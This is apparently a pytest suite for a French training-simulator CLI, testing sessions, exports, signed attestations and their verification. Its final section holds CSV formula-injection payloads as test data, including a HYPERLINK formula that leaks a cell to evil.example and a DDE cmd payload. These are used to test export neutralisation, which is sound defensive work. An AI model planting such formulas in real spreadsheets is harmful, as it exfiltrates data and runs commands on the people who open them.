"""The records commands as a trainer uses them: trainees, sessions, --record, export, keys, attest, verify, report."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from simulator.cli import main
from simulator.records.xapi import validate_statement

from .conftest import FIXTURES, PACK_DIRS

PACKS = [arg for p in PACK_DIRS for arg in ("--pack", str(p))]


@pytest.fixture(autouse=True)
def no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Standard input is not a terminal, as in CI: nothing may prompt."""
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    monkeypatch.delenv("RELANCE_KEY_PASSPHRASE", raising=False)
    monkeypatch.delenv("RELANCE_LRS_AUTH", raising=False)


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    try:
        code = main(list(args))
    except SystemExit as exit_:  # argparse usage errors
        code = int(exit_.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def trained(tmp_path: Path, relance_home: Path, capsys: pytest.CaptureFixture[str], good_replies: list[str]) -> Path:
    """A session, a current trainee and one recorded attempt of each kind, all through the CLI."""
    assert run(capsys, "session", "create", "--code", "RT-2026-11", "--title", "Relance téléphonique B2B",
               "--objective", "Conduire un appel de relance", "--objective", "Traiter les objections",
               "--start", "2026-11-12", "--end", "2026-11-13", "--hours", "14", "--organisation",
               "Formations Crédit SARL", "--trainer", "Anne Morel", "--place", "Lyon", "--use")[0] == 0
    assert run(capsys, "trainee", "add", "--nom", "Dupont", "--prenom", "Élodie", "--organisation",
               "Soléo Emballages", "--email", "elodie@example.fr", "--session", "RT-2026-11", "--use")[0] == 0
    replies = tmp_path / "replies.txt"
    replies.write_text("\n".join(good_replies) + "\n", encoding="utf-8")
    code, _out, err = run(capsys, *PACKS, "call", "leroy-premier-appel", "--replies", str(replies), "--record")
    assert code == 0 and "tentative n° 1 enregistrée pour Élodie Dupont" in err
    answers = tmp_path / "quiz.yaml"
    answers.write_text("q-single: 1\nq-vrai-faux: vrai\nq-dso: 73 jours\nq-texte: DSO\n", encoding="utf-8")
    assert run(capsys, *PACKS, "quiz", "quiz-types", "--answers", str(answers), "--record", "--json")[0] == 0
    study = tmp_path / "etude.yaml"
    study.write_text("dso: 80\n", encoding="utf-8")
    assert run(capsys, *PACKS, "case-study", "etude-dso", "--answers", str(study), "--record")[0] == 0
    ratings = tmp_path / "auto.yaml"
    ratings.write_text("i-dso-calcul: 2\ni-dso-lire: 3\ni-penalites: 4\n", encoding="utf-8")
    assert run(capsys, *PACKS, "questionnaire", "autoeval-poste-client", "--answers", str(ratings), "--record")[0] == 0
    return tmp_path


# --------------------------------------------------------------------------- trainees, sessions, --record


def test_record_needs_a_current_trainee(tmp_path: Path, relance_home: Path, capsys: pytest.CaptureFixture[str],
                                        good_replies: list[str]) -> None:
    replies = tmp_path / "r.txt"
    replies.write_text("\n".join(good_replies), encoding="utf-8")
    code, _out, err = run(capsys, *PACKS, "call", "leroy-premier-appel", "--replies", str(replies), "--record")
    assert code == 2 and "aucun stagiaire courant" in err and "relance trainee add" in err


def test_recorded_attempts_are_listed(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _code, out, _ = run(capsys, "attempts", "--json")
    data = json.loads(out)
    assert [a["kind"] for a in data] == ["call", "quiz", "case-study", "questionnaire"]
    assert all(a["status"] == "finished" and a["session_id"] == 1 for a in data)
    assert data[0]["transcript_hash"].startswith("sha256:")
    _code, out, _ = run(capsys, "attempts")
    assert "leroy-premier-appel" in out and "auto-évaluation" in out
    _code, out, _ = run(capsys, "trainee", "list")
    assert out.startswith("*") and "Élodie Dupont <elodie@example.fr> — Soléo Emballages" in out
    _code, out, _ = run(capsys, "session", "list")
    assert "RT-2026-11" in out and "14 h" in out


def test_trainee_and_session_usage_errors(relance_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "trainee", "use", "42")[0] == 2
    assert run(capsys, "session", "use", "NOPE")[0] == 2
    assert run(capsys, "session", "create", "--code", "X", "--title", "T", "--start", "2026-13-01")[0] == 2
    assert run(capsys, "session", "create", "--code", "X", "--title", "T", "--start", "2026-11-02",
               "--end", "2026-11-01")[0] == 2
    assert run(capsys, "settings", "provider.nda", "11 75 12345 75")[0] == 0
    _code, out, _ = run(capsys, "settings")
    assert "11 75 12345 75" in out
    code, _, err = run(capsys, "settings", "provider.nad", "x")
    assert code == 2 and "provider.nda" in err
    assert run(capsys, "settings", "xapi.base", "pas une adresse")[0] == 2


# --------------------------------------------------------------------------- export


def test_export_csv_per_attempt_and_per_item(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _code, out, _ = run(capsys, "export")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["kind"] for r in rows] == ["call", "quiz", "case-study", "questionnaire"]
    assert rows[0]["nom"] == "Dupont" and rows[0]["session"] == "RT-2026-11" and rows[0]["pack_hash"].startswith("sha256:")
    _code, out, _ = run(capsys, "export", "--items")
    items = list(csv.DictReader(io.StringIO(out)))
    calls = [r for r in items if r["kind"] == "call"]
    assert calls and calls[0]["interaction"] == "long-fill-in" and calls[0]["step"]
    assert {r["interaction"] for r in items} >= {"long-fill-in", "likert", "numeric"}
    _code, out, _ = run(capsys, "export", "--excel", "--kind", "quiz")
    assert out.startswith("\ufeffattempt_id;") and ";62,5;" not in out.split("\n")[0]


def test_export_files_are_deterministic(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outputs = {}
    for fmt, name in (("csv", "a.csv"), ("json", "a.json"), ("xapi", "a.jsonl")):
        first, second = trained / f"1-{name}", trained / f"2-{name}"
        assert run(capsys, "export", "-o", str(first))[0] == 0  # format from the extension
        assert run(capsys, "export", "--format", fmt, "-o", str(second))[0] == 0
        assert first.read_bytes() == second.read_bytes()
        outputs[fmt] = first.read_text(encoding="utf-8")
    document = json.loads(outputs["json"])
    attempt = document["trainees"][0]["attempts"][0]
    assert attempt["result"]["turns"] and attempt["events"][0]["payload"]["type"] == "reply"
    statements = [json.loads(line) for line in outputs["xapi"].splitlines()]
    assert statements and all(validate_statement(s) == [] for s in statements)


def test_export_usage_errors(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "export", "--format", "json", "--items")[0] == 2
    assert run(capsys, "export", "--format", "xapi", "--excel")[0] == 2
    assert run(capsys, "export", "--auth", "a:b")[0] == 2
    assert run(capsys, "export", "--session", "NOPE")[0] == 2
    assert run(capsys, "export", "--trainee", "99")[0] == 2
    assert run(capsys, "export", "-o", str(trained / "missing" / "x.csv"))[0] == 2
    assert run(capsys, "export", "--lrs", "ftp://example")[0] == 2
    with pytest.raises(SystemExit) as info:
        main(["export", "--format", "pdf"])
    assert info.value.code == 2


# --------------------------------------------------------------------------- keys


def test_keys_init_without_terminal_creates_an_unencrypted_key(relance_home: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "keys", "init")
    assert code == 0
    assert "NON chiffrée" in err and "non chiffrée" in out
    private = relance_home / "data" / "keys" / "attestation-ed25519.pem"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    code, out, _ = run(capsys, "keys", "show", "--json")
    shown = json.loads(out)
    assert len(shown["kid"]) == 16 and shown["encrypted"] is False and len(shown["public_key_hex"]) == 64
    code, _, err = run(capsys, "keys", "init")
    assert code == 2 and "existe déjà" in err
    assert private.exists()
    code, out, _ = run(capsys, "keys", "init", "--force", "--no-passphrase")
    assert code == 0
    assert list(private.parent.glob("*.old-*")), "the replaced key is kept"
    assert json.loads(run(capsys, "keys", "show", "--json")[1])["kid"] != shown["kid"]


def test_keys_with_a_passphrase_file(trained: Path, relance_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = trained / "secret.txt"
    secret.write_text("correct horse battery staple\n", encoding="utf-8")
    code, out, err = run(capsys, "keys", "init", "--passphrase-file", str(secret))
    assert code == 0 and "chiffrée par phrase de passe" in out and "NON" not in err
    assert b"ENCRYPTED" in (relance_home / "data" / "keys" / "attestation-ed25519.pem").read_bytes()
    assert run(capsys, "keys", "show")[0] == 0  # the public key needs no passphrase
    code, _, err = run(capsys, "attest", "-o", str(trained / "a.json"))
    assert code == 1 and "phrase de passe" in err
    wrong = trained / "wrong.txt"
    wrong.write_text("nope\n", encoding="utf-8")
    code, _, err = run(capsys, "attest", "-o", str(trained / "a.json"), "--passphrase-file", str(wrong))
    assert code == 1 and "incorrecte" in err
    code, _, _ = run(capsys, "attest", "-o", str(trained / "a.json"), "--passphrase-file", str(secret))
    assert code == 0
    empty = trained / "empty.txt"
    empty.write_text("", encoding="utf-8")
    assert run(capsys, "keys", "init", "--force", "--passphrase-file", str(empty))[0] == 2
    assert run(capsys, "keys", "init", "--force", "--passphrase-file", str(trained / "nope.txt"))[0] == 2


def test_keys_show_without_a_key(relance_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "keys", "show")
    assert code == 1 and "relance keys init" in err


# --------------------------------------------------------------------------- attest and verify


def _attest(trained: Path, capsys: pytest.CaptureFixture[str], name: str) -> Path:
    run(capsys, "keys", "init", "--no-passphrase")
    target = trained / name
    code, out, err = run(capsys, *PACKS, "attest", "-o", str(target), "--date", "2026-11-23")
    assert code == 0, err
    assert "attestation signée" in out and "4 exercice(s)" in out
    return target


def test_attest_json_and_verify(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = _attest(trained, capsys, "attestation.json")
    code, out, _ = run(capsys, "verify", str(target))
    assert code == 0 and out.startswith("VALIDE") and "clé de cette installation" in out
    code, out, _ = run(capsys, *PACKS, "verify", str(target), "--replay")
    assert code == 0 and "3 exercice(s) recalculé(s)" in out
    envelope = json.loads(target.read_text(encoding="utf-8"))
    (trained / "indented.json").write_text(json.dumps(envelope, indent=7, ensure_ascii=True), encoding="utf-8")
    assert run(capsys, "verify", str(trained / "indented.json"))[0] == 0
    envelope["payload"]["training"]["hours"] = 35
    tampered = trained / "tampered.json"
    tampered.write_text(json.dumps(envelope), encoding="utf-8")
    code, out, _ = run(capsys, "verify", str(tampered))
    assert code == 1 and out.startswith("INVALIDE") and "signature invalide" in out
    code, out, _ = run(capsys, "verify", str(tampered), "--json")
    assert code == 1 and json.loads(out)["valid"] is False
    text = target.read_text(encoding="utf-8")
    duplicated = trained / "duplicated.json"
    duplicated.write_text(text.replace('"nom": "Dupont"', '"nom": "Dupont", "nom": "Durand"', 1), encoding="utf-8")
    code, out, _ = run(capsys, "verify", str(duplicated))
    assert code == 1 and "clé JSON en double : nom" in out


def test_attest_pdf_and_verify(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = _attest(trained, capsys, "attestation.pdf")
    assert target.read_bytes().startswith(b"%PDF")
    code, out, _ = run(capsys, *PACKS, "verify", str(target), "--replay")
    assert code == 0 and "VALIDE" in out and "Élodie Dupont" in out
    again = trained / "again.pdf"
    assert run(capsys, *PACKS, "attest", "-o", str(again), "--date", "2026-11-23")[0] == 0
    # The same store gives the same document, byte for byte; the appended PDF signature records
    # when it was made.
    first_revision = target.read_bytes().index(b"%%EOF") + 5
    assert again.read_bytes()[:first_revision] == target.read_bytes()[:first_revision]
    assert run(capsys, "verify", str(again))[0] == 0


def test_verify_pins_the_key(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = _attest(trained, capsys, "a.json")
    public = json.loads(run(capsys, "keys", "show", "--json")[1])
    assert run(capsys, "verify", str(target), "--key", public["public_key_base64"])[0] == 0
    pub_file = trained / "org.pub"
    pub_file.write_text(public["public_key_hex"] + "\n", encoding="utf-8")
    assert run(capsys, "verify", str(target), "--key", str(pub_file))[0] == 0
    other = "A" * 43 + "="
    code, out, _ = run(capsys, "verify", str(target), "--key", other)
    assert code == 1 and "autre clé" in out
    assert run(capsys, "verify", str(target), "--key", "not-a-key")[0] == 2


def test_verify_usage_errors_and_foreign_files(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "verify", str(trained / "missing.json"))[0] == 2
    garbage = trained / "garbage.bin"
    garbage.write_bytes(b"\x00\x01\x02 binary")
    assert run(capsys, "verify", str(garbage))[0] == 2
    other_json = trained / "other.json"
    other_json.write_text('{"hello": "world"}', encoding="utf-8")
    code, out, _ = run(capsys, "verify", str(other_json))
    assert code == 1 and "pas une attestation signée" in out
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    plain = trained / "plain.pdf"
    plain.write_bytes(bytes(pdf.output()))
    code, out, _ = run(capsys, "verify", str(plain))
    assert code == 1 and "attestation.json absente" in out
    with pytest.raises(SystemExit) as info:
        main(["verify"])
    assert info.value.code == 2


def test_attest_usage_errors(trained: Path, relance_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "attest", "-o", str(trained / "a.pdf"))
    assert code == 1 and "relance keys init" in err  # no key yet
    run(capsys, "keys", "init", "--no-passphrase")
    assert run(capsys, "attest", "-o", str(trained / "a.txt"))[0] == 2
    assert run(capsys, "attest", "-o", str(trained / "a.pdf"), "--trainee", "99")[0] == 2
    assert run(capsys, "attest", "-o", str(trained / "a.pdf"), "--session", "NOPE")[0] == 2
    assert run(capsys, "trainee", "add", "--nom", "Martin", "--prenom", "Hugo", "--use")[0] == 0
    code, _, err = run(capsys, "attest", "-o", str(trained / "a.pdf"))
    assert code == 2 and "aucune session" in err


# --------------------------------------------------------------------------- report


def test_report_from_exports(trained: Path, capsys: pytest.CaptureFixture[str], good_replies: list[str]) -> None:
    first = trained / "dupont.json"
    assert run(capsys, "export", "-o", str(first))[0] == 0
    assert run(capsys, "trainee", "add", "--nom", "Martin", "--prenom", "Hugo", "--organisation", "Vercors",
               "--session", "RT-2026-11", "--use")[0] == 0
    replies = trained / "short.txt"
    replies.write_text("\n".join(good_replies[:4]), encoding="utf-8")
    assert run(capsys, *PACKS, "call", "leroy-premier-appel", "--replies", str(replies), "--seed", "2",
               "--record")[0] == 0
    second = trained / "martin.json"
    assert run(capsys, "export", "--trainee", "2", "-o", str(second))[0] == 0
    summary = trained / "cohort.csv"
    code, out, err = run(capsys, *PACKS, "report", str(first), str(second), "--csv", str(summary))
    assert code == 0, err
    for text in ("Par stagiaire", "Élodie Dupont", "Hugo Martin", "Par module", "Le poste client",
                 "Par étape de la méthode", "Objections les moins bien traitées"):
        assert text in out
    rows = list(csv.DictReader(io.StringIO(summary.read_text(encoding="utf-8"))))
    assert {r["section"] for r in rows} == {"stagiaire", "module", "étape", "objection"}
    code, out, _ = run(capsys, "report", str(first), str(second), "--json")
    data = json.loads(out)
    assert len(data["trainees"]) == 2 and data["steps"][0]["calls"] == 2
    not_export = trained / "x.json"
    not_export.write_text("[]", encoding="utf-8")
    assert run(capsys, "report", str(not_export))[0] == 2
    assert run(capsys, "report", str(trained / "missing.json"))[0] == 2


def test_author_markup_is_shown_as_typed(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "trainee", "add", "--nom", "[bold]Durand[/bold]", "--prenom", "Léa", "--use",
               "--session", "RT-2026-11")[0] == 0
    export = trained / "e.json"
    document: dict[str, Any] = json.loads(run(capsys, "export", "--format", "json")[1])
    document["trainees"].append({**document["trainees"][0], "id": 99, "nom": "[bold]Durand[/bold]"})
    export.write_text(json.dumps(document), encoding="utf-8")
    code, out, _ = run(capsys, "report", str(export))
    assert code == 0 and "[bold]Durand[/bold]" in out


def test_fixture_packs_are_valid() -> None:
    assert main(["validate", "--no-cache", *[str(p) for p in PACK_DIRS]]) == 0
    assert (FIXTURES / "appels" / "pack.yaml").exists()
    assert os.environ.get("RELANCE_HOME")


# --------------------------------------------------------------------------- CSV formula injection

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_neutralise_follows_owasp() -> None:
    from simulator.records.export import neutralise

    for value in (*FORMULAS, "\t=1+1", "\r=1+1", "  =1+1", "\n@x", "=", "-"):
        assert neutralise(value) == "'" + value
    for value in ("Dupont", "", " Dupont", "'=déjà", "2026-11-23", "a=b", "sha256:ab", 12, -2.5, None):
        assert neutralise(value) == value


@pytest.mark.parametrize("excel", [False, True], ids=["rfc4180", "excel"])
def test_csv_exports_neutralise_formulas(tmp_path: Path, relance_home: Path, capsys: pytest.CaptureFixture[str],
                                         good_replies: list[str], excel: bool) -> None:
    replies = tmp_path / "replies.txt"
    replies.write_text("=1+1 bonjour\n" + "\n".join(good_replies[1:3]) + "\n", encoding="utf-8")
    for index, name in enumerate(FORMULAS):
        assert run(capsys, "trainee", "add", f"--nom={name}", "--prenom", f"P{index}", "--organisation", "@org",
                   "--use")[0] == 0
        assert run(capsys, *PACKS, "call", "leroy-premier-appel", "--replies", str(replies), "--record")[0] == 0
    for extra in ([], ["--items"]):
        out = tmp_path / "export.csv"
        args = ["export", "-o", str(out), *extra] + (["--excel"] if excel else [])
        assert run(capsys, *args)[0] == 0
        text = out.read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=";" if excel else ","))
        assert rows
        for row in rows:
            for column, value in row.items():
                # No cell a spreadsheet would evaluate…
                assert not value.lstrip(" \t\r\n")[:1] in ("=", "+", "@") or value.startswith("'"), (column, value)
                if value.startswith("-"):
                    float(value.replace(",", "."))  # …a leading minus only on a number Relance wrote
        # …and the text is all there, behind the apostrophe.
        names = {row["nom"] for row in rows}
        assert names == {"'" + name for name in FORMULAS}
        if extra:
            assert "'=1+1 bonjour" in {row["response"] for row in rows}
        else:
            assert {row["organisation"] for row in rows} == {"'@org"}
            assert all(float(row["score"].replace(",", ".")) >= 0 for row in rows)
